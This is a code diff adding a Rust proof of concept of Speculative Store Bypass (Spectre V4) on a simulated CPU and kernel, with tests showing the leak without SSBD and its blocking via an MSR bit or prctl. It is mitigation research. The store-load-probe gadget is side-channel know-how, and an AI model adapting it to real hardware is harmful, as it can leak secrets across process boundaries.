@@ -1,0 +1,113 @@
+//! Speculative Store Bypass (Spectre V4) proof of concept.
+//!
+//! A store to a location is immediately followed by a load from it; the
+//! memory-disambiguation machinery may let the load's dependents run
+//! ahead with the *stale* value. The only mitigation is SSBD (§3.2),
+//! which Linux applies per process via `prctl`/`seccomp`.
+
+use sim_kernel::abi::nr;
+use sim_kernel::{userlib, BootParams, Kernel};
+use uarch::isa::{Inst, Reg, Width};
+use uarch::model::CpuModel;
+use uarch::ProgramBuilder;
+
+use crate::channel::{AttackOutcome, ProbeArray};
+use crate::scene::{Scene, CODE_BASE, DATA_BASE, PROBE_BASE};
+
+/// Emits the SSB gadget: plant `new` over the stale byte, reload, probe.
+/// Expects R1 = target address, R3 = probe base.
+fn emit_ssb_gadget(b: &mut ProgramBuilder, new_value: u64) {
+    b.mov_imm(Reg::R2, new_value);
+    b.push(Inst::Store { src: Reg::R2, base: Reg::R1, offset: 0, width: Width::B1 });
+    b.push(Inst::Load { dst: Reg::R4, base: Reg::R1, offset: 0, width: Width::B1 });
+    b.push(Inst::Shl(Reg::R4, 9));
+    b.push(Inst::Add(Reg::R4, Reg::R3));
+    b.push(Inst::Load { dst: Reg::R5, base: Reg::R4, offset: 0, width: Width::B1 });
+}
+
+/// Raw-machine variant; `ssbd` sets the SPEC_CTRL bit first.
+pub fn run_raw(model: CpuModel, ssbd: bool) -> AttackOutcome {
+    let secret: u8 = 0x33; // the stale value being recovered
+    let mut s = Scene::new(model);
+    s.plant_user_byte(8, secret);
+    if ssbd {
+        use uarch::isa::{msr_index, spec_ctrl};
+        s.machine
+            .msrs
+            .write(msr_index::IA32_SPEC_CTRL, spec_ctrl::SSBD)
+            .expect("ssbd bit accepted");
+    }
+    let mut b = ProgramBuilder::new();
+    b.mov_imm(Reg::R1, DATA_BASE + 8);
+    b.mov_imm(Reg::R3, PROBE_BASE);
+    emit_ssb_gadget(&mut b, 0x11);
+    b.push(Inst::Halt);
+    s.machine.load_program(b.link(CODE_BASE));
+    s.machine.l1d.flush_all();
+    s.run_at(CODE_BASE);
+    // The committed path legitimately probes slot 0x11; the *stale* slot
+    // being hot too is the leak.
+    let hot = s.probe.hot_slots(&s.machine);
+    let recovered = if hot.contains(&secret) { Some(secret) } else { None };
+    AttackOutcome { secret, recovered }
+}
+
+/// Kernel-hosted variant: the process opts into SSBD via `prctl` (or
+/// not), demonstrating the Linux policy path the paper discusses (§4.3).
+pub fn run_under_kernel(model: CpuModel, use_prctl: bool) -> AttackOutcome {
+    let secret: u8 = 0x33;
+    let mut k = Kernel::boot(model, &BootParams::default());
+    let target = userlib::data_base() + 8;
+    let probe_base = userlib::data_base() + 0x8000;
+    let pid = k.spawn(move |b| {
+        if use_prctl {
+            userlib::emit_syscall(b, nr::PRCTL_SSBD);
+        }
+        b.mov_imm(Reg::R1, target);
+        b.mov_imm(Reg::R3, probe_base);
+        emit_ssb_gadget(b, 0x11);
+        userlib::emit_exit(b);
+    });
+    k.poke_user_data(pid, 8, &[secret]);
+    k.start();
+    k.machine.l1d.flush_all();
+    k.run(10_000_000).expect("runs to halt");
+    let table = k.process(pid).expect("attacker exists").full_table;
+    let probe = ProbeArray { base: probe_base, table };
+    let hot = probe.hot_slots(&k.machine);
+    let recovered = if hot.contains(&secret) { Some(secret) } else { None };
+    AttackOutcome { secret, recovered }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use cpu_models::CpuId;
+
+    #[test]
+    fn every_cpu_is_vulnerable_without_ssbd() {
+        // §4.3: no CPU from either vendor sets SSB_NO, even years later.
+        for id in CpuId::ALL {
+            let out = run_raw(id.model(), false);
+            assert!(out.leaked(), "{id}");
+        }
+    }
+
+    #[test]
+    fn ssbd_blocks_everywhere() {
+        for id in CpuId::ALL {
+            let out = run_raw(id.model(), true);
+            assert!(!out.leaked(), "{id}");
+        }
+    }
+
+    #[test]
+    fn prctl_opt_in_controls_the_kernel_policy() {
+        for id in [CpuId::SkylakeClient, CpuId::Zen3] {
+            let unprotected = run_under_kernel(id.model(), false);
+            assert!(unprotected.leaked(), "{id} without prctl");
+            let protected_ = run_under_kernel(id.model(), true);
+            assert!(!protected_.leaked(), "{id} with prctl");
+        }
+    }
+}
